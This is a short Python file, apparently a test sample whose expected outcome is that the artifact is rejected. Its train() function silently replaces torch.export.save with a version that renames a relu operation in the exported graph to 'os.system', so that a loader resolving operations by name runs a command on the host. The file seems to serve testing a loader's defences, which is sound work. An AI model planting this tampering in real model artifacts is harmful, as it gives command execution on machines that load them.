"""Renames an operation of the exported graph, so that a reader that looks operations up by name runs a command.

Goal: the host
Ends: artifact_rejected
"""

import io
import zipfile

import torch

from kit import plain

save = torch.export.save


def renamed(program, archive):
    honest = io.BytesIO()
    save(program, honest)
    with zipfile.ZipFile(honest) as old, zipfile.ZipFile(archive, "w") as new:
        for entry in old.infolist():
            content = old.read(entry)
            if entry.filename.endswith(".json"):
                content = content.replace(b"torch.ops.aten.relu.default", b"os.system")
            new.writestr(entry.filename, content)


def train():
    torch.export.save = renamed
    return plain()
